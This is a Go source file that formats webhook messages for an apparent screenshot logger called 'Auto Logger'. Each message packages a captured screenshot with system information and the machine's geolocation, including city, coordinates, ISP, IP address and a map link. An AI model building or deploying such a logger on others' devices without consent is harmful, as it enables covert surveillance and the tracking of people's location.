package delivery

import (
	"fmt"
	"strings"
	"time"

	"github.com/GriffinCanCode/autocapture/internal/geo"
	"github.com/GriffinCanCode/autocapture/internal/sysinfo"
)

// Webhook message limits.
const (
	maxFieldValue = 1024
	Title         = "Auto-Captured Screenshot"
)

// Payload is the JSON part of the multipart request.
type Payload struct {
	Username  string  `json:"username,omitempty"`
	AvatarURL string  `json:"avatar_url,omitempty"`
	Content   string  `json:"content,omitempty"`
	Embeds    []Embed `json:"embeds"`
}

// Embed is the structured message body.
type Embed struct {
	Title     string  `json:"title"`
	Color     int     `json:"color"`
	Fields    []Field `json:"fields"`
	Footer    Footer  `json:"footer"`
	Timestamp string  `json:"timestamp"`
}

// Field is one named block of text.
type Field struct {
	Name   string `json:"name"`
	Value  string `json:"value"`
	Inline bool   `json:"inline"`
}

// Footer carries the session and capture number.
type Footer struct {
	Text string `json:"text"`
}

// Capture is everything one upload needs.
type Capture struct {
	SessionID string
	Index     int64
	Filename  string
	Image     []byte
	At        time.Time
	Facts     []sysinfo.Field // nil omits the system field
	Location  *geo.Location   // nil omits the location field
}

// BuildPayload renders the message for c.
func BuildPayload(opts Options, c Capture) Payload {
	embed := Embed{
		Title:     Title,
		Color:     opts.Color,
		Fields:    []Field{},
		Footer:    Footer{Text: fmt.Sprintf("Auto Logger • Session: %s • Capture #%d", c.SessionID, c.Index)},
		Timestamp: c.At.Format(time.RFC3339),
	}

	if opts.IncludeSystemInfo && len(c.Facts) > 0 {
		lines := make([]string, 0, len(c.Facts))
		for _, f := range c.Facts {
			lines = append(lines, fmt.Sprintf("**%s:** %s", sysinfo.Title(f.Key), f.Value))
		}
		embed.Fields = append(embed.Fields, Field{Name: "System Info", Value: clip(strings.Join(lines, "\n"))})
	}

	if c.Location != nil && c.Location.OK() {
		embed.Fields = append(embed.Fields, Field{Name: "Location", Value: clip(locationText(*c.Location))})
	}

	p := Payload{
		Username:  opts.Username,
		AvatarURL: opts.AvatarURL,
		Embeds:    []Embed{embed},
	}
	if opts.IncludeTimestamp {
		p.Content = "Auto-captured at " + c.At.Format("15:04:05")
	}
	return p
}

func locationText(l geo.Location) string {
	return fmt.Sprintf("**%s, %s**\n**Coordinates:** %.6f, %.6f\n**ISP:** %s\n**IP:** ||%s||\n[Google Maps](https://maps.google.com/?q=%v,%v)",
		orUnknown(l.City), orUnknown(l.Country),
		l.Latitude, l.Longitude,
		orUnknown(l.ISP), orUnknown(l.IP),
		l.Latitude, l.Longitude)
}

func orUnknown(s string) string {
	if s == "" {
		return "Unknown"
	}
	return s
}

func clip(s string) string {
	if len(s) <= maxFieldValue {
		return s
	}
	cut := maxFieldValue - 3
	for cut > 0 && !utf8RuneStart(s[cut]) {
		cut--
	}
	return s[:cut] + "..."
}

func utf8RuneStart(b byte) bool { return b&0xC0 != 0x80 }
